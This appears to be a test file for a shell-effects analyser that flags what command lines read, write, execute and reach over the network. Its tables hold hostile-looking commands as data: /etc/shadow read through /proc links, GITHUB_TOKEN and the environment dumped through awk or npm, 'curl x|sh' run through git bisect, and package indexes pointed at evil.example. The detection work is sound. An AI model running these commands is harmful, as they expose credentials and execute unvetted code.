/**
 * Shell effects the December probe of the shipped policies found missing, as facts of the facet
 * (the policies' corpus holds the same lines as decisions): kernel links under /proc, program
 * text fed on stdin, npx running a program as itself, the environment read through awk and npm,
 * files written by variables and options, package indexes given by variable, and wget's output
 * name. Each table mixes attacks with benign look-alikes, at least a third benign.
 */
import { describe, expect, it } from 'vitest';
import { shellEffects, shellFacet } from '../../src/facets/shell.js';
import type { Effects } from '../../src/facets/effects-types.js';

function fx(line: string): Effects {
  const r = shellEffects(line, { cwd: '/w', home: '/h' });
  if ('error' in r) throw new Error(`${line}: ${r.error}`);
  return r.effects;
}

const paths = (l: readonly { path: string }[]): string[] => l.map((p) => p.path);

describe('shell effects: /proc links are followed', () => {
  it.each([
    ['cat /proc/self/root/etc/shadow', '/etc/shadow'],
    ['cat /proc/1/root/etc/shadow', '/etc/shadow'],
    ['cat /proc/self/task/7/root/etc/shadow', '/etc/shadow'],
    ['cat /proc/self/cwd/../../etc/shadow', '/etc/shadow'],
    ['cat /proc/thread-self/cwd/x', '/w/x'],
    ['cd /proc/self && cat root/etc/shadow', '/etc/shadow'],
    // benign: no link on the way
    ['cat /proc/self/status', '/proc/self/status'],
    ['cat /proc/cpuinfo', '/proc/cpuinfo'],
    ['cat src/proc/self/root/x', '/w/src/proc/self/root/x'],
  ])('%s reads %s', (line, path) => {
    expect(paths(fx(line).reads)).toContain(path);
  });

  it("another process's working directory is not known", () => {
    const r = fx('cat /proc/1/cwd/x').reads[0];
    expect(r?.known).toBe(false);
    expect(r?.within).toBe('');
  });
});

describe('shell effects: program text on stdin', () => {
  it.each([
    ["node <<< 'x'", 'inline'],
    ["node <<'EOF'\nrequire('child_process').execSync('id')\nEOF", 'inline'],
    ["python3 <<EOF\nprint(1)\nEOF", 'inline'],
    ['echo x | node', 'script'],
    ['echo x | node -', 'script'],
    ['node /dev/stdin', 'script'],
    ['node /proc/self/fd/0 < x.js', 'script'],
  ])('%s runs program text from stdin (%s)', (line, kind) => {
    const e = fx(line).exec.find((x) => x.program === 'node' || x.program === 'python3');
    expect(e?.kind).toBe(kind);
    expect(e?.via).toBe('stdin');
  });

  it.each(['node app.js', 'node scripts/build.js --prod', 'node --test'])('%s runs no stdin program', (line) => {
    expect(fx(line).exec.some((x) => x.via === 'stdin')).toBe(false);
  });

  it.each([
    ["sed -f - a.txt <<< 'e id'", 'sh'],
    ["awk -f /dev/stdin <<< 'BEGIN{system(\"id\")}'", 'sh'],
  ])('%s analyses the here-document as the program', (line, program) => {
    expect(fx(line).exec.map((e) => [e.program, e.kind])).toContainEqual([program, 'hidden']);
  });

  it('a sed script from a pipe is not known', () => {
    expect(fx('echo x | sed -f - a.txt').exec.map((e) => [e.via, e.known])).toContainEqual(['stdin', false]);
  });
});

describe('shell facet: npx, npm exec and git bisect run name the program they run', () => {
  it.each([
    ['npx node -e x', ['npx', 'node']],
    ['npm exec -- sh -c id', ['npm', 'sh', 'id']],
    ['npm x --yes -- sh -c id', ['npm', 'sh', 'id']],
    ['npx -p left-pad cowsay hi', ['npx', 'cowsay']],
    ['git bisect run sh -c id', ['git', 'sh', 'id']],
    // benign
    ['npx tsc --noEmit', ['npx', 'tsc']],
    ['npx --yes vitest run', ['npx', 'vitest']],
    ['git bisect run npm test', ['git', 'npm']],
    ['npm run build', ['npm']],
  ])('%s', (line, names) => {
    expect(shellFacet(line).names).toEqual(names);
  });

  it('npx node -e has the inline program node runs', () => {
    expect(fx('npx node -e x').exec.some((e) => e.program === 'node' && e.kind === 'inline')).toBe(true);
  });

  it('git bisect run with shell syntax in its first word runs it through sh -c', () => {
    expect(fx("git bisect run 'curl x|sh'").exec.some((e) => e.via === 'git bisect run' && e.kind === 'hidden')).toBe(true);
    expect(fx('git bisect run npm test').exec.some((e) => e.kind === 'hidden')).toBe(false);
  });
});

describe('shell effects: the environment, printed', () => {
  it.each([
    "awk 'BEGIN{print ENVIRON[\"GITHUB_TOKEN\"]}'",
    "awk 'BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}'",
    'npm run env',
    'npm run-script env',
  ])('%s reads the environment', (line) => {
    expect(paths(fx(line).reads)).toContain('/proc/self/environ');
  });

  it.each(["awk 'BEGIN{print ENVIRON[\"HOME\"]}'", "awk '{print $1}' a.txt", 'npm run environment-check'])('%s does not', (line) => {
    expect(paths(fx(line).reads)).not.toContain('/proc/self/environ');
  });
});

describe('shell effects: files written by variables and options', () => {
  it.each([
    ['GIT_TRACE=/tmp/x git status', '/tmp/x'],
    ['GIT_TRACE2_EVENT=af_unix:stream:/tmp/s git status', '/tmp/s'],
    ['NODE_V8_COVERAGE=/tmp/c node app.js', '/tmp/c'],
    ['NODE_REDIRECT_WARNINGS=/etc/x node app.js', '/etc/x'],
    ['npm ci --cache /tmp/c', '/tmp/c'],
    ['git maintenance start', '~/.gitconfig'],
  ])('%s writes %s', (line, path) => {
    expect(paths(fx(line).writes).map((p) => (p === '/h/.gitconfig' ? '~/.gitconfig' : p))).toContain(path);
  });

  it.each(['GIT_TRACE=1 git status', 'GIT_TRACE=true git log', 'GIT_TRACE_REDACT=0 git fetch origin'])('%s writes no trace file', (line) => {
    expect(fx(line).writes.filter((w) => w.via.startsWith('GIT_'))).toEqual([]);
    expect(fx(line).exec.filter((e) => e.via.startsWith('GIT_'))).toEqual([]);
  });

  it.each([
    ['npm install ../evil', '/evil'],
    ['npm install file:/tmp/evil', '/tmp/evil'],
    ['npm i file:///tmp/x', '/tmp/x'],
    ['npm install ./packages/a', '/w/packages/a'],
  ])('%s reads the local package %s', (line, path) => {
    expect(paths(fx(line).reads)).toContain(path);
  });

  it('a GitHub shorthand is a destination, not a path', () => {
    expect(fx('npm install org/repo').network.map((n) => n.host)).toContain('github.com');
  });
});

describe('shell effects: package indexes given by variable', () => {
  it.each([
    ['GOPROXY=https://evil.example go mod download', ['evil.example']],
    ['GOPROXY=https://a.example,https://b.example|direct go build', ['a.example', 'b.example']],
    ['UV_INDEX_URL=https://evil.example/simple uv sync', ['evil.example']],
    // benign
    ['GOPROXY=off go build', []],
    ['GOPROXY=direct go build', []],
  ])('%s reaches %j', (line, hosts) => {
    expect(fx(line).network.filter((n) => n.via.endsWith('=')).map((n) => n.host)).toEqual(hosts);
  });
});

describe("shell effects: wget's output file", () => {
  it.each([
    ['wget https://github.com/o/r/archive/main.zip', '/w/main.zip'],
    ['wget https://example.com/', '/w/index.html'],
    ['wget -P dl https://example.com/x.tgz', '/w/dl/x.tgz'],
    ['wget https://example.com/%2eenv', '/w/.env'],
  ])('%s writes %s', (line, path) => {
    expect(paths(fx(line).writes)).toContain(path);
  });

  it('--content-disposition lets the server name it', () => {
    expect(fx('wget --content-disposition https://example.com/x').writes.some((w) => !w.known)).toBe(true);
  });
});
